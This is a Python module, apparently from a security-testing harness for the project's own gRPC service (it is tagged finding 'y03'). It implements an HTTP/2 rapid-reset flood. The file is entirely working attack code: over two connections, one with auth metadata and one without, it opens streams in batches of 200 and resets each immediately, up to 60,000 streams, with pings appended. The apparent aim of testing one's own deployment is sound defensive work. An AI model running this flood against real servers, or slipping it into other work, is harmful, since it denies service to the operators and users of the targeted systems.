"""Streams opened and reset in one packet, with and without a token, and pings.

Two connections are enough, because the proxy limits their number (deploy/nginx)."""

from __future__ import annotations

import asyncio
import time

from http2_frames import PING, Connection, call, frame, reset

from ..attack import SERVICE, Attack, Seen, Target

BATCH, CONNECTIONS, STREAMS = 200, 2, 60_000


async def attack(target: Target, seen: Seen) -> None:
    end = time.monotonic() + target.seconds

    async def flood(metadata: tuple[tuple[str, str], ...]) -> None:
        connection = await Connection.open(target.address)
        for first in range(1, 2 * STREAMS, 2 * BATCH):
            streams = range(first, first + 2 * BATCH, 2)
            await connection.send(
                b"".join(call(at, f"{SERVICE}Generate", metadata) + reset(at) for at in streams)
                + frame(PING, 0, 0, bytes(8))
            )
            seen["streams reset"] += BATCH
            await asyncio.sleep(0)
            if connection.is_closed or time.monotonic() > end:
                break
        await asyncio.sleep(max(0.0, end - time.monotonic()))
        await connection.close()

    await asyncio.gather(*(flood(target.metadata if at % 2 else ()) for at in range(CONNECTIONS)))


ATTACK = Attack(name="raw-resets", finding="y03", run=attack)
